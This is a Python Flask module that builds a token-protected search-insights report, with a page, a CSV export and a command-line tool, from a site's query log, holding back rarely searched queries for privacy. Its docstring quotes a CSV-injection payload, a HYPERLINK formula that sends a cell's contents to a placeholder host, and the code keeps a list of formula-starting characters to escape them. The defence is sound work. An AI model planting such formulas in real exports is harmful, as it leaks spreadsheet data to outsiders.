"""Insights for editors, read from the query log (``querylog.py``): the page ``/insikter``, its CSV
twin ``/insikter.csv``, and ``python -m webapp insights``. One function, ``report``, feeds all three.

The page and the CSV exist only when ``INSIGHTS_TOKEN`` is set (``create_app`` registers them only then: 404 to
every method otherwise). The token comes in
the ``X-Insights-Token`` header, ``Authorization: Bearer``, or the form field ``token`` (the page's
own form posts it); never in a cookie or the URL. A wrong or missing token gets 401 and the form, and repeated
wrong tokens 429 for a while (``tokens.py``).

A query a visitor typed once may be a name: "anna svensson" searched for once is one person looking for another,
and the log keeps it under the day it was typed. So the page, the CSV and the command show a query only when it was
searched at least ``INSIGHTS_MIN_SEARCHES`` times (k, ``MIN_SEARCHES`` unless set) within the log's retention, or
when it is nothing but the labels of what the log masked ("[telefon]": no one's text). What is held back is counted,
never listed (queries and searches), and so are the sections opened from such a query and the feeds that follow one.
The log keeps no identifier, so it cannot count visitors: k counts searches, and one visitor who searches the same
text k times shows it; k is a floor against the single search, not a guarantee. The editors' to-do list, the queries
with no hits, is where names land (the site has no page about a person), and where editors need the long tail most:
its rare queries are shown as their words instead, each word that k searches without hits held, in whatever rare
query ("laddstolpe" from "laddstolpe kalmar", "laddstolpar" and "laddstolpe stöd" seen once each), the words a
synonym fixes; a name searched once is in none of them.

The CSV holds what visitors typed, and a spreadsheet reads a cell that starts with "=", "+", "-",
"@", a tab or a carriage return as a formula: a visitor who searches for
``=HYPERLINK("http://x/?"&A1,"k")`` would put a live link in the editor's sheet. Every text cell
that starts with one of those characters gets a leading "'" (OWASP's rule for CSV injection),
which the spreadsheet shows as text and does not display; numbers are written as numbers. A
query that starts with "-" (a visitor excluding a word) therefore reads "'-hamn" in the CSV.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import sqlite3
from collections import Counter, defaultdict
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import click
from flask import Blueprint, Response, abort, current_app, render_template

from indexer import datafiles
from indexer.analysis import stop_words

from . import tokens
from .querylog import MIN_SEARCHES, RARE, log_path, only_labels

bp = Blueprint("insights", __name__)

TOP = 20  # rows per table
CSV_COLUMNS = (
    "fråga",
    "sökningar",
    "med filter",
    "utan träffar",
    "delvis träff",
    "stavningsrättad",
    "med synonym",
    "träffar senast",
    "öppnade avsnitt",
)

#: What makes a spreadsheet read a cell as a formula (OWASP, CSV injection), also in full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")

#: The log's own counts (``querylog``: entries written and dropped, queries with no word to search for, searches
#: that ran out of time: what they would have found is not known, so they are never queries with no hits).
COUNTS = {"written": 0, "dropped": 0, "unsearchable": 0, "timed_out": 0, "over_limit": 0}

#: A word of a query: letters and digits (with inner hyphens, "e-tjänster"); a masked label is one word.
WORD = re.compile(r"\[[a-z-]+\]|\w+(?:-\w+)*")

QUERY_TOTALS = """
SELECT query, SUM(searches) AS searches, SUM(filtered) AS filtered, SUM(zero_hits) AS zero_hits,
       SUM(partial) AS partial, SUM(typo) AS typo, SUM(synonym) AS synonym,
       (SELECT hits FROM searches AS last WHERE last.query = s.query AND last.searches > last.filtered
        ORDER BY day DESC LIMIT 1) AS hits,
       (SELECT COALESCE(SUM(opened), 0) FROM opened WHERE opened.query = s.query) AS opened
FROM searches AS s GROUP BY query
"""
FEED_TOTALS = """
SELECT query, SUM(polls) AS polls, COUNT(*) AS days FROM feeds GROUP BY query ORDER BY polls DESC, query
"""
OPENED_TOTALS = """
SELECT query, section, SUM(opened) AS opened FROM opened GROUP BY query, section ORDER BY opened DESC, query, section
"""


class LogUnreadable(Exception):
    """The query log's database cannot be read (corrupt, or not a database)."""


def report(path: Path, top: int = TOP, min_searches: int = MIN_SEARCHES) -> dict:
    """Everything the editors see: most frequent queries, zero hits, rescued queries, weeks, synonyms, opened
    sections, and the log's own counts; a query only once it was searched ``min_searches`` times (k), the rest
    counted in ``held_back``. An absent log is an empty report."""
    empty = {
        "queries": [],
        "frequent": [],
        "zero_hits": [],
        "rare_words": [],
        "rescued": [],
        "weeks": [],
        "synonyms": [],
        "opened": [],
        "feeds": [],
        "counts": dict(COUNTS),
        "held_back": {"queries": 0, "searches": 0, "min_searches": min_searches, "forgotten": 0},
    }
    if not path.exists():
        return empty
    try:
        connection = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
        try:
            return _read(connection, top, min_searches)
        finally:
            connection.close()
    except sqlite3.Error as error:
        raise LogUnreadable(f"the query log {path} cannot be read: {error}") from None


def _read(connection: sqlite3.Connection, top: int, min_searches: int) -> dict:
    _read_as_current(connection)
    connection.row_factory = sqlite3.Row
    every = [dict(row) for row in connection.execute(QUERY_TOTALS + " ORDER BY searches DESC, query")]
    forgotten = sum(q["searches"] for q in every if q["query"] == RARE)  # rare queries' old rows, without text
    every = [q for q in every if q["query"] != RARE]
    queries = [q for q in every if q["searches"] >= min_searches or only_labels(q["query"])]
    shown = {q["query"] for q in queries}
    held_back = [q for q in every if q["query"] not in shown]
    days = connection.execute("SELECT day, SUM(searches), SUM(zero_hits) FROM searches GROUP BY day").fetchall()
    return {
        "queries": queries,
        "frequent": queries[:top],
        "zero_hits": sorted((q for q in queries if q["zero_hits"]), key=lambda q: -q["zero_hits"])[:top],
        "rare_words": rare_words(held_back, min_searches)[:top],
        "rescued": [q for q in queries if q["partial"] or q["typo"]][:top],
        "weeks": _weeks(days),
        "synonyms": [
            dict(row)
            for row in connection.execute(
                "SELECT word, SUM(fired) AS fired FROM synonyms GROUP BY word ORDER BY fired DESC, word LIMIT ?", (top,)
            )
        ],
        # a section page opened with a ?q= nobody searched is no open "from a search" (nor in the CSV)
        "opened": [dict(row) for row in connection.execute(OPENED_TOTALS) if row["query"] in shown][:top],
        "feeds": [dict(row) for row in connection.execute(FEED_TOTALS) if row["query"] in shown][:top],
        "counts": {**COUNTS, **dict(connection.execute("SELECT name, value FROM counts"))},
        "held_back": {
            "queries": len(held_back),
            "searches": sum(q["searches"] for q in held_back),
            "min_searches": min_searches,
            "forgotten": forgotten,
        },
    }


def rare_words(held_back: list[dict], min_searches: int) -> list[dict]:
    """The words of the queries held back that ``min_searches`` searches without hits held between them, most
    first: each with those searches and the number of queries (a stop word, and a word of one letter, are none)."""
    searches, queries = Counter(), Counter()
    for q in held_back:
        if q["zero_hits"]:
            for word in set(WORD.findall(q["query"])) - stop_words():
                if len(word) > 1:
                    searches[word] += q["zero_hits"]
                    queries[word] += 1
    common = [word for word, n in searches.items() if n >= min_searches]
    return [
        {"word": word, "zero_hits": searches[word], "queries": queries[word]}
        for word in sorted(common, key=lambda word: (-searches[word], word))
    ]


def _read_as_current(connection: sqlite3.Connection) -> None:
    """A log no writer has upgraded yet (``querylog._upgrade``) read as the current kind: its searches with
    ``filtered`` 0 and no feeds, through temporary objects of this read-only connection, which shadow its own."""
    if "filtered" not in {row[1] for row in connection.execute("PRAGMA table_info(searches)")}:
        connection.execute("CREATE TEMP VIEW searches AS SELECT *, 0 AS filtered FROM main.searches")
    if not connection.execute("SELECT 1 FROM sqlite_master WHERE name = 'feeds'").fetchone():
        connection.execute("CREATE TEMP TABLE feeds (day TEXT, query TEXT, polls INTEGER)")


def _weeks(days) -> list[dict]:
    """Searches and zero-hit searches per ISO week (``2026-W48``), newest first."""
    weeks = defaultdict(lambda: [0, 0])
    for day, searches, zero_hits in days:
        year, week, _ = datetime.date.fromisoformat(day).isocalendar()
        weeks[f"{year}-W{week:02d}"][0] += searches
        weeks[f"{year}-W{week:02d}"][1] += zero_hits
    return [{"week": week, "searches": n, "zero_hits": zero} for week, (n, zero) in sorted(weeks.items(), reverse=True)]


def to_csv(queries: list[dict], delimiter: str = ",") -> str:
    """Every query of the log with its totals, one row each; no cell a spreadsheet would run."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(map(inert, CSV_COLUMNS))
    for q in queries:
        row = (q["query"], q["searches"], q["filtered"], q["zero_hits"], q["partial"], q["typo"], q["synonym"])
        writer.writerow(map(inert, (*row, q["hits"], q["opened"])))
    return out.getvalue()


#: The download is opened in a spreadsheet: Excel reads a CSV file as UTF-8 only after a byte order mark (else
#: "frÃ¥ga"), and in a Swedish locale it splits columns at ";", its list separator, not at ",". ``insights --csv``
#: prints plain comma-separated UTF-8, for scripts.
SPREADSHEET_BOM = "\ufeff"
SPREADSHEET_DELIMITER = ";"


def inert(cell):
    """A text cell a spreadsheet shows as text: with a leading "'" if it would start a formula. Numbers as
    they are (a spreadsheet reads -3 as a number, not a formula)."""
    return "'" + cell if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) else cell


@dataclass(frozen=True)
class Table:
    """One table of the report: on the page in Swedish, in the terminal in English."""

    id: str
    source: str  # which list of the report it shows
    caption: str  # the page's caption
    title: str  # the terminal's title
    columns: tuple[tuple[str, str, str], ...]  # (the report's field, the page's header, the terminal's)

    def rows(self, found: dict) -> list[tuple]:
        return [tuple(item[key] for key, _, _ in self.columns) for item in found[self.source]]

    @property
    def headers(self) -> tuple[str, ...]:
        return tuple(header for _, header, _ in self.columns)

    @property
    def labels(self) -> tuple[str, ...]:
        return tuple(label for _, _, label in self.columns)


@cache
def report_tables() -> tuple[Table, ...]:
    """The report's tables, in order, from ``data/insights_tables.toml``."""
    tables = datafiles.toml("insights_tables.toml", package="webapp")["table"]
    return tuple(Table(**{**table, "columns": tuple(map(tuple, table["columns"]))}) for table in tables)


def tables(found: dict) -> list[dict]:
    """The report as the page's tables: an id, a caption, column headers, rows (the first cell names the row)."""
    return [
        {"id": table.id, "caption": table.caption, "headers": table.headers, "rows": table.rows(found)}
        for table in report_tables()
    ]


# -- the page ---------------------------------------------------------------------------------------


TOKEN_HEADER = "X-Insights-Token"


def _authorised() -> tuple[bool, int]:
    """Whether the request brings the token, and the seconds to wait while guessing is slowed (``tokens.py``)."""
    return tokens.check("INSIGHTS_TOKEN", TOKEN_HEADER, form=True)


def _refused(wait: int):
    """The form again: 401 for a wrong or missing token, 429 with ``Retry-After`` while guessing is slowed."""
    wrong = bool(tokens.given(TOKEN_HEADER, form=True))
    headers = {"Cache-Control": "no-store", **({"Retry-After": str(wait)} if wait else {})}
    return render_template("insights.html", report=None, wrong=wrong, wait=wait), 429 if wait else 401, headers


def _current_report() -> dict:
    try:
        return report(_path(), min_searches=current_app.config["INSIGHTS_MIN_SEARCHES"])
    except LogUnreadable as error:
        current_app.logger.error("%s", error)
        abort(503)


def _path() -> Path:
    return Path(current_app.config["QUERY_LOG_FILE"] or log_path(current_app.config["INDEX_DIR"]))


@bp.route("/insikter", methods=["GET", "POST"])
def page():
    authorised, wait = _authorised()
    if not authorised:
        return _refused(wait)
    found = _current_report()
    return (
        render_template(
            "insights.html",
            report=found,
            tables=tables(found),
            token=tokens.given(TOKEN_HEADER, form=True),
            logging=bool(current_app.config["QUERY_LOG"]),
            rare_days=current_app.config["QUERY_LOG_RARE_DAYS"],
        ),
        {"Cache-Control": "no-store"},
    )


@bp.route("/insikter.csv", methods=["GET", "POST"])
def csv_export():
    authorised, wait = _authorised()
    if not authorised:
        return _refused(wait)
    return Response(
        SPREADSHEET_BOM + to_csv(_current_report()["queries"], delimiter=SPREADSHEET_DELIMITER),
        mimetype="text/csv",
        headers={"Content-Disposition": 'attachment; filename="insikter.csv"', "Cache-Control": "no-store"},
    )


# -- the command ------------------------------------------------------------------------------------


@click.command()
@click.option(
    "--index",
    "index_dir",
    type=click.Path(path_type=Path),
    help="The served index; the log is beside it (default: the app's INDEX_DIR).",
)
@click.option("--top", default=TOP, show_default=True, type=click.IntRange(1, 1000), help="Rows per table.")
@click.option("--csv", "as_csv", is_flag=True, help="Print every query shown with its totals as CSV instead.")
@click.option(
    "--min-searches",
    type=click.IntRange(1),
    help="Show a query once it was searched this often (default: the app's INSIGHTS_MIN_SEARCHES).",
)
def main(index_dir: Path | None, top: int, as_csv: bool, min_searches: int | None):
    """What visitors searched for: frequent queries, zero hits, rescued queries, weeks, synonyms.

    Example: python -m webapp insights --top 10
    """
    from . import create_app
    from .settings import SettingsError

    try:
        config = create_app().config
    except SettingsError as error:
        raise click.ClickException(str(error)) from None
    path = log_path(index_dir) if index_dir else Path(config["QUERY_LOG_FILE"] or log_path(config["INDEX_DIR"]))
    if not path.exists():  # an empty report would read as "nobody searched"
        raise click.ClickException(f"no query log at {path.absolute()}: is the index the one the server serves?")
    try:
        found = report(path, top, min_searches or config["INSIGHTS_MIN_SEARCHES"])
    except LogUnreadable as error:
        raise click.ClickException(str(error)) from None
    if as_csv:
        click.echo(to_csv(found["queries"]), nl=False)
        return
    counts = found["counts"]
    click.echo(f"Query log: {path} ({counts['written']} entries written, {counts['dropped']} dropped)")
    click.echo(f"{counts['unsearchable']} searches with no word to search for (counted, not listed)")
    click.echo(f"{counts['timed_out']} searches that ran out of time (counted, not listed)")
    click.echo(f"{counts['over_limit']} searches of new queries past a day's limit (counted, not listed)")
    held = found["held_back"]
    click.echo(
        f"{held['queries']} queries ({held['searches']} searches) searched fewer than {held['min_searches']} times"
        " (held back: one person's search may name someone)"
    )
    click.echo(f"{held['forgotten']} searches of rare queries older than QUERY_LOG_RARE_DAYS (their text forgotten)")
    for table in report_tables():
        _table(table.title, table.labels, table.rows(found))


#: A terminal cell longer than this is cut with "…": one long query must not widen every table past a terminal.
MAX_CELL_CHARS = 40


def _table(title: str, header: tuple, rows: list[tuple]) -> None:
    click.echo(f"\n{title}")
    if not rows:
        click.echo("  (none)")
        return
    cells = [[_cell(value) for value in row] for row in [header, *rows]]
    widths = [max(len(row[i]) for row in cells) for i in range(len(header))]
    for row in cells:
        click.echo("  " + "  ".join(cell.ljust(width) for cell, width in zip(row, widths, strict=True)).rstrip())


def _cell(value) -> str:
    """A value as one terminal cell: on one line, at most ``MAX_CELL_CHARS`` long."""
    text = " ".join(str(value).split())
    return text if len(text) <= MAX_CELL_CHARS else text[: MAX_CELL_CHARS - 1] + "…"
